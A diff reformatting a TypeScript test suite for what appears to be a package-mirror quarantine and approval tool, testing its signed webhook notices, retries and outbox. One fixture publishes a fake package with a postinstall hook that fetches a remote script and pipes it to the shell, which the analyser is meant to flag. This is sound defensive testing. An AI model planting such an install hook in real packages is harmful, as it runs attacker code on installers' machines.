@@ -19,12 +19,21 @@ const PUBLIC = 'https://cordon.example.test/';
 const alice = testApprover('alice');
 
 /** A mirror whose cordon.yaml lists `notify` endpoints (and alice as approver). */
-async function notifyingMirror(notify: unknown[], options: { dataDir?: string; upstream?: FakeUpstream; logger?: Logger } = {}): Promise<TestMirror> {
+async function notifyingMirror(
+  notify: unknown[],
+  options: { dataDir?: string; upstream?: FakeUpstream; logger?: Logger } = {},
+): Promise<TestMirror> {
   const dir = mkdtempSync(join(tmpdir(), 'cordon-notify-config-'));
   const file = join(dir, 'cordon.yaml');
   writeFileSync(file, stringify({ approvers: [{ name: 'alice', key: alice.approver.line }], publicUrl: PUBLIC, notify }));
   // One answer without a version confirms its withdrawal here: these tests are about what is announced, not when.
-  return startTestMirror({ now: NOW, env: { CORDON_CONFIG: file, CORDON_WITHDRAW_CONFIRMATIONS: '1', CORDON_WITHDRAW_WINDOW: '0' }, dataDir: options.dataDir, upstream: options.upstream, logger: options.logger });
+  return startTestMirror({
+    now: NOW,
+    env: { CORDON_CONFIG: file, CORDON_WITHDRAW_CONFIRMATIONS: '1', CORDON_WITHDRAW_WINDOW: '0' },
+    dataDir: options.dataDir,
+    upstream: options.upstream,
+    logger: options.logger,
+  });
 }
 
 /** The HMAC a receiver computes itself over the bytes it got. */
@@ -33,7 +42,11 @@ const hmac = (body: Buffer, secret = SECRET): string => `sha256=${createHmac('sh
 /** Publishes a package whose second version adds an install script (held by analysis), sights it and analyses it. */
 async function heldVersion(m: TestMirror, name: string): Promise<void> {
   m.upstream.publish(name, '1.0.0', { time: NOW - 30 * DAY });
-  m.upstream.publish(name, '1.0.1', { time: NOW - HOUR, scripts: { postinstall: 'node steal.js' }, files: { 'steal.js': 'require("child_process").exec("curl https://203.0.113.9/x | sh")' } });
+  m.upstream.publish(name, '1.0.1', {
+    time: NOW - HOUR,
+    scripts: { postinstall: 'node steal.js' },
+    files: { 'steal.js': 'require("child_process").exec("curl https://203.0.113.9/x | sh")' },
+  });
   await (await fetch(`${m.mirror.url}${name}`)).arrayBuffer();
   await m.mirror.pipeline.drain();
 }
@@ -51,8 +64,16 @@ async function blockedVersion(m: TestMirror, name: string): Promise<void> {
 /** Signs and submits a decision through the HTTP API, as the CLI does. */
 async function decide(m: TestMirror, who: TestApprover, name: string, version: string, decision: 'approve' | 'reject'): Promise<Response> {
   const api = `${m.mirror.url}-/cordon/api/v1/approvals`;
-  const st = (await (await fetch(`${api}/statement?package=${encodeURIComponent(name)}&version=${version}&decision=${decision}&reason=reviewed&key=${encodeURIComponent(who.approver.publicKey)}`)).json()) as { text: string };
-  return fetch(`${api}/decisions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ package: name, version, statement: st.text, signature: who.sign(st.text) }) });
+  const st = (await (
+    await fetch(
+      `${api}/statement?package=${encodeURIComponent(name)}&version=${version}&decision=${decision}&reason=reviewed&key=${encodeURIComponent(who.approver.publicKey)}`,
+    )
+  ).json()) as { text: string };
+  return fetch(`${api}/decisions`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ package: name, version, statement: st.text, signature: who.sign(st.text) }),
+  });
 }
 
 test('a hold is announced once per endpoint: signed over the exact body, with the version, its worst finding and the review link; Slack gets its own escaped body', async () => {
@@ -88,7 +109,14 @@ test('a hold is announced once per endpoint: signed over the exact body, with th
     assert.equal(doc.releaseAt, null, 'time alone does not release a held version');
     assert.equal(doc.worstFinding.severity, 'critical');
     assert.match(doc.worstFinding.rule, /^install-script\//);
-    assert.equal(doc.findingsCount, (await m.mirror.runtime.store.analyses.analysisOf('worm-lib', '1.0.1', (await m.mirror.runtime.store.versions.versionOf('worm-lib', '1.0.1'))!.integrity!))!.findings.length);
+    assert.equal(
+      doc.findingsCount,
+      (await m.mirror.runtime.store.analyses.analysisOf(
+        'worm-lib',
+        '1.0.1',
+        (await m.mirror.runtime.store.versions.versionOf('worm-lib', '1.0.1'))!.integrity!,
+      ))!.findings.length,
+    );
     assert.ok(doc.findingsCount >= 2);
     assert.equal(doc.maxSeverity, 'critical');
     assert.equal(doc.url, `${PUBLIC}-/cordon/packages/worm-lib/1.0.1`);
@@ -126,7 +154,19 @@ test('approval, rejection, block and a cascaded hold each raise their event', as
     m.upstream.publish('cascade-lib', '1.0.0', { time: NOW - 30 * DAY });
     m.upstream.publish('cascade-lib', '2.0.0', { time: NOW - HOUR });
     await (await fetch(`${m.mirror.url}cascade-lib`)).arrayBuffer();
-    assert.equal((await m.mirror.runtime.store.versions.transition({ package: 'cascade-lib', version: '2.0.0', from: 'quarantined', to: 'held', reason: 'its new dependency approve-me@1.0.1 was held', cause: 'cascade-held', at: NOW, event: 'cascaded' })), true);
+    assert.equal(
+      await m.mirror.runtime.store.versions.transition({
+        package: 'cascade-lib',
+        version: '2.0.0',
+        from: 'quarantined',
+        to: 'held',
+        reason: 'its new dependency approve-me@1.0.1 was held',
+        cause: 'cascade-held',
+        at: NOW,
+        event: 'cascaded',
+      }),
+      true,
+    );
     await m.mirror.pipeline.drain();
     await m.mirror.notifier.runNow();
 
@@ -228,7 +268,11 @@ test('a slow receiver holds up neither a decision nor a request; an attempt that
     await m.mirror.notifier.runNow();
     const held = slow.received.filter((d) => d.json.event === 'held');
     assert.equal(held.length, 2, 'the timed-out attempt and its retry');
-    assert.equal(held[0]!.headers['x-cordon-delivery'], held[1]!.headers['x-cordon-delivery'], 'the retry has the id of the attempt that timed out, so the receiver can drop the duplicate');
+    assert.equal(
+      held[0]!.headers['x-cordon-delivery'],
+      held[1]!.headers['x-cordon-delivery'],
+      'the retry has the id of the attempt that timed out, so the receiver can drop the duplicate',
+    );
     assert.deepEqual(held[0]!.body, held[1]!.body);
     const approved = slow.received.filter((d) => d.json.event === 'approved');
     assert.ok(approved.length >= 1 && new Set(approved.map((d) => d.headers['x-cordon-delivery'])).size === 1);
@@ -246,7 +290,13 @@ test('a delivery that keeps failing fails for good after its attempts: logged at
   const gone = await new WebhookReceiver().up();
   gone.answer = () => 410;
   const { logger, lines } = captureLogger();
-  const m = await notifyingMirror([{ url: failing.url, secret: SECRET, name: 'broken', events: ['blocked'] }, { url: gone.url, secret: SECRET, name: 'gone' }], { logger });
+  const m = await notifyingMirror(
+    [
+      { url: failing.url, secret: SECRET, name: 'broken', events: ['blocked'] },
+      { url: gone.url, secret: SECRET, name: 'gone' },
+    ],
+    { logger },
+  );
   try {
     await blockedVersion(m, 'doomed-lib');
     for (let attempt = 1; attempt <= MAX_ATTEMPTS; attempt++) {
@@ -265,7 +315,10 @@ test('a delivery that keeps failing fails for good after its attempts: logged at
       ['error', 'gone', 'blocked', 'doomed-lib', '1.0.1', 1],
     ]);
     assert.match(String(failures.find((l) => l.endpoint === 'broken')!.err), /answered 500/);
-    assert.ok(failures.every((l) => !JSON.stringify(l).includes(failing.url) && !JSON.stringify(l).includes(SECRET)), 'neither the URL nor the secret is logged');
+    assert.ok(
+      failures.every((l) => !JSON.stringify(l).includes(failing.url) && !JSON.stringify(l).includes(SECRET)),
+      'neither the URL nor the secret is logged',
+    );
     const metrics = await scrape(`${m.mirror.url}-/cordon/metrics`);
     assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'broken', outcome: 'failed' }), 1);
     assert.equal(metrics.value('cordon_notifications_total', { endpoint: 'broken', outcome: 'retry' }), MAX_ATTEMPTS - 1);
@@ -286,7 +339,7 @@ test('the outbox is durable: a delivery pending at a stop is sent after the next
     const first = await notifyingMirror([{ url: receiver.url, secret: SECRET, name: 'later' }], { dataDir, upstream });
     await blockedVersion(first, 'restart-lib');
     await first.mirror.notifier.runNow();
-    const before = (await first.mirror.runtime.store.notifications.due(Number.MAX_SAFE_INTEGER));
+    const before = await first.mirror.runtime.store.notifications.due(Number.MAX_SAFE_INTEGER);
     assert.equal(before.length, 1);
     await first.stop();
 
